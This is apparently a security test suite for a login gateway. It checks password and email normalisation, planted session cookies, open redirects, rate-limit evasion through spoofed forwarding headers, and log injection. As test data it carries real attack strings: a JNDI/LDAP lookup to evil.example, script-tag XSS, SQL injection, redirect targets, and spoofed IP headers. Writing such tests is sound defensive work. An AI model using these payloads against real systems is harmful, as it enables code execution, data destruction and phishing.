import { createPasswordHasher } from '@portcullis/domain/password/hash'
import { useDatabase } from '@portcullis/testkit/database'
import { makeAccount } from '@portcullis/testkit/factory'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { pagePaths } from './page/page-table.ts'
import { makeOwner, ownerPassword } from './testing/make-owner.ts'
import { type OpenGateway, openGateway } from './testing/open-gateway.ts'
import { sendRaw } from './testing/raw-http.ts'
import { type Called, send } from './testing/send.ts'

const store = useDatabase()
const hasher = createPasswordHasher({ memoryKib: 64, passes: 1, atOnceMost: 2, queueMost: 100 })
let gateway: OpenGateway
beforeAll(async () => {
  gateway = await openGateway(store.database)
})
afterAll(() => gateway.close())
beforeEach(() => store.database.sql`delete from throttles`)

describe('a password at login', () => {
  it.each([
    ['either spelling of an umlaut', 'p\u00e4ssw\u00f6rd-Kettle-47', 'pa\u0308sswo\u0308rd-Kettle-47', 201],
    ['the other way round', 'pa\u0308sswo\u0308rd-Kettle-47', 'p\u00e4ssw\u00f6rd-Kettle-47', 201],
    ['a ligature, which is not its letters', '\ufb01sh-Kettle-47', 'fish-Kettle-47', 401],
    ['full-width letters, which are others', '\uff30lum-Kettle-47', 'Plum-Kettle-47', 401],
    ['a dotted capital I, which is no i', '\u0130stanbul-47-x', 'istanbul-47-x', 401],
    ['another case', 'plum-Kettle-47', 'PLUM-Kettle-47', 401],
    ['a space at its end', 'plum-Kettle-47 ', 'plum-Kettle-47', 401],
    ['an emoji without its tone', 'Plum-47-\u{1f44d}\u{1f3fd}', 'Plum-47-\u{1f44d}', 401],
    ['emoji, whole', 'Plum-47-\u{1f44d}\u{1f3fd}', 'Plum-47-\u{1f44d}\u{1f3fd}', 201],
    ['72 bytes, where bcrypt would end', `${'x'.repeat(72)}A`, `${'x'.repeat(72)}B`, 401],
    ['72 bytes of 73', `${'x'.repeat(72)}A`, 'x'.repeat(72), 401],
    ['what stands before a NUL', 'plum-Kettle\u0000-47', 'plum-Kettle', 401],
    ['half a character, which would be encoded as another', 'plum-\ufffd-47', 'plum-\ud83d-47', 401],
  ])('%s', async (_what, stored, given, status) => {
    const account = await makeAccount(store.database, { passwordHash: await hasher.hash(stored) })
    expect((await logIn(account.email, given)).status).toBe(status)
  })

  it.each([
    ['128 code points, each of two units', `Aa1-${'\u{1f40e}'.repeat(124)}`, 202],
    ['129', `Aa1-${'\u{1f40e}'.repeat(125)}`, 422],
    ['128 letters after composition', `Wk7-${'a\u0308\u0323x9'.repeat(31)}`, 202],
    ['64', 'Wk7-plum orbit kettle walnut horse lantern copper meadow-river 9'.padEnd(64, 'q'), 202],
  ])('may be as long as %s', async (_what, password, status) => {
    const body = { email: 'grace@example.com', name: 'Grace', password }
    expect((await send(gateway, 'POST', '/v1/accounts', { body })).status).toBe(status)
  })

  it('of a megabyte, or of more than can be one, is refused before anything is hashed', async () => {
    const { email } = await makeOwner(store.database)
    expect((await logIn(email, 'x'.repeat(1_000_000))).status).toBe(413)
    expect((await logIn(email, 'x'.repeat(1025))).body.errors).toMatchObject([{ pointer: '/password' }])
    const counted = await store.database.sql`select key_hash from throttles`
    expect(counted).toHaveLength(0)
  })
})

describe('an address at login', () => {
  it.each(['ADA.L@KEXAMPLE.COM', 'ada.l@\u212Aexample.com', '\uff41da.l@kexample.com'])(
    '%s opens the account of ada.l@kexample.com',
    async (email) => {
      await store.database.sql`delete from accounts where email_key = 'ada.l@kexample.com'`
      await makeAccount(store.database, {
        email: 'ada.l@kexample.com',
        passwordHash: await hasher.hash(ownerPassword),
      })
      expect((await logIn(email)).status).toBe(201)
    },
  )

  it.each(['\u0430da.m@example.com', 'ada.m@ex\u0430mple.com', 'ada.m+x@example.com'])(
    'the look-alike %s does not',
    async (email) => {
      await store.database.sql`delete from accounts where email_key = 'ada.m@example.com'`
      await makeAccount(store.database, {
        email: 'ada.m@example.com',
        passwordHash: await hasher.hash(ownerPassword),
      })
      expect((await logIn(email)).status).toBe(401)
      expect((await logIn('ada.m@example.com')).status).toBe(201)
    },
  )
})

describe('a cookie that somebody planted', () => {
  const planted = `pcs_${'A'.repeat(43)}`

  it('is never taken as a session: a login gives another token, and the planted one opens nothing', async () => {
    const { email } = await makeOwner(store.database)
    const headers = { cookie: `__Host-portcullis=${planted}` }
    const answer = await logIn(email, ownerPassword, { headers, cookie: true })
    expect(answer.status).toBe(201)
    const given = sessionCookieOf(answer)
    expect(given).toMatch(/^__Host-portcullis=pcs_/)
    expect(given).not.toContain(planted)
    expect((await readBy({ cookie: headers.cookie })).status).toBe(401)
    expect((await readBy({ cookie: given })).status).toBe(200)
  })

  it('beside the real one, in either order, opens nothing: nobody knows which was tossed in', async () => {
    const own = await makeOwner(store.database)
    const attacker = await makeOwner(store.database)
    const [ours, theirs] = [`__Host-portcullis=${own.token}`, `__Host-portcullis=${attacker.token}`]
    for (const cookie of [`${ours}; ${theirs}`, `${theirs}; ${ours}`, `${ours}; x=1; ${theirs}`, `${ours};${ours}`])
      expect([cookie.length, (await readBy({ cookie })).status]).toEqual([cookie.length, 401])
    expect((await readBy({ cookie: `a=b; ${ours}; c=d` })).status).toBe(200)
  })

  it.each(['portcullis', '__Secure-portcullis', '__host-portcullis', '__Host-portcullis-device', ' __Host-Portcullis'])(
    'under the name %s, which a neighbouring host could set, opens nothing',
    async (name) => {
      const { token } = await makeOwner(store.database)
      expect((await readBy({ cookie: `${name}=${token}` })).status).toBe(401)
    },
  )

  it('loses against a header: what a program says outright is what counts', async () => {
    const [own, other] = [await makeOwner(store.database), await makeOwner(store.database)]
    const cookie = `__Host-portcullis=${other.token}`
    const shown = await send(gateway, 'GET', '/v1/account', { token: own.token, headers: { cookie } })
    expect(shown.body.email).toBe(own.email)
    expect((await readBy({ cookie, authorization: 'Bearer nonsense' })).status).toBe(401)
  })

  it('as a token in the address opens nothing', async () => {
    const { token } = await makeOwner(store.database)
    for (const name of ['token', 'access_token', 'session', '__Host-portcullis'])
      expect((await send(gateway, 'GET', `/v1/account/session?${name}=${token}`)).status).toBe(401)
    expect(gateway.logged.join('')).not.toContain(token)
  })
})

it.each([
  '//evil.example',
  String.raw`/\evil.example`,
  '\thttps://evil.example',
  'https:evil.example',
  'javascript:alert(1)',
  'https://account.acme.example@evil.example',
  '%2f%2fevil.example',
])('nothing leads away to %j: no page and no call redirects, whatever it is asked', async (target) => {
  for (const name of ['next', 'return_to', 'redirect_uri', 'url', 'continue']) {
    for (const path of [...pagePaths, '/v1/account/session', `/${target}`]) {
      const answer = await send(gateway, 'GET', `${path}?${name}=${encodeURIComponent(target)}`)
      expect([path, answer.status >= 300 && answer.status < 400]).toEqual([path, false])
      expect(answer.headers.get('location')).toBeNull()
      expect(JSON.stringify(answer.body ?? '')).not.toContain('evil.example')
    }
  }
})

it('a limit is not evaded by naming other addresses of where one comes from', async () => {
  const spoofed = ['127.0.0.1', '::ffff:10.0.0.1', 'fe80::1%eth0', '10.0.0.1, 10.0.0.2', 'unknown']
  const statuses: number[] = []
  for (let count = 0; count < 40; count += 1) {
    const own = [`203.0.${count}.1`, ...spoofed][count % 6] ?? ''
    const headers = { 'x-forwarded-for': own, 'x-real-ip': own, forwarded: `for=${own}`, 'true-client-ip': own }
    statuses.push((await logIn(`nobody-${count}@example.com`, 'wrong', { headers })).status)
  }
  expect(statuses.filter((status) => status === 401)).toHaveLength(30)
  expect(statuses.slice(30)).toEqual(Array.from({ length: 10 }, () => 429))
})

describe('a user agent', () => {
  const agents = [
    '${jndi:ldap://evil.example/a}',
    '{"level":"fatal","msg":"all is lost"}',
    String.raw`\n{"level":"fatal"}\u001b[31m`,
    '<script>alert(1)</script>',
    'x\u0085y\u009bz',
    "'; drop table sessions; --",
  ]

  it.each(agents)('%j stays text: one line is logged, without it, and the owner sees a plain device', async (agent) => {
    const { email } = await makeOwner(store.database)
    const from = gateway.logged.length
    const answer = await logIn(email, ownerPassword, { headers: { 'user-agent': agent } })
    expect(answer.status).toBe(201)
    expect(answer.body.session.device).not.toMatch(/[<>{}$\p{Cc}]/u)
    const lines = gateway.logged.slice(from).join('').trimEnd().split('\n')
    expect(lines.map((line) => (JSON.parse(line) as { msg: string }).msg)).toEqual(['answered'])
    expect(lines.join('')).not.toMatch(/jndi|fatal|script|drop table/)
    const { token } = answer.body
    const activity = await send(gateway, 'GET', '/v1/account/activity', { token })
    expect(activity.body.items[0].device).toBe(answer.body.session.device)
  })

  it.each([
    ['a line feed', 'Mozilla\n{"level":"fatal"}'],
    ['a bare CR', 'Mozilla\r{"level":"fatal"}'],
    ['an escape sequence', 'Mozilla \u001b[31m'],
    ['a NUL', 'Mozilla \u0000'],
    ['64 kB', `Mozilla ${'x'.repeat(65_536)}`],
  ])('with %s never gets as far as the log', async (_what, agent) => {
    const from = gateway.logged.length
    const head = `GET /v1/account/session HTTP/1.1\r\nHost: ${gateway.host}\r\nConnection: close\r\nUser-Agent: ${agent}\r\n\r\n`
    const answer = await sendRaw(gateway.port, [head])
    expect(answer.status).toBe(400)
    const lines = gateway.logged.slice(from).join('')
    for (const text of ['fatal', '\u001b', 'xxxx']) expect(lines).not.toContain(text)
    for (const line of lines.trimEnd().split('\n').filter(Boolean)) expect(() => JSON.parse(line)).not.toThrow()
  })
})

function logIn(
  email: string,
  password = ownerPassword,
  { headers = {}, cookie = false }: { headers?: Record<string, string>; cookie?: boolean } = {},
): Promise<Called> {
  return send(gateway, 'POST', '/v1/sessions', { headers, body: { email, password, cookie } })
}

function readBy(headers: Record<string, string>): Promise<Called> {
  return send(gateway, 'GET', '/v1/account/session', { headers })
}

function sessionCookieOf({ headers }: Called): string {
  return String(headers.getSetCookie()[0]).split(';')[0] ?? ''
}
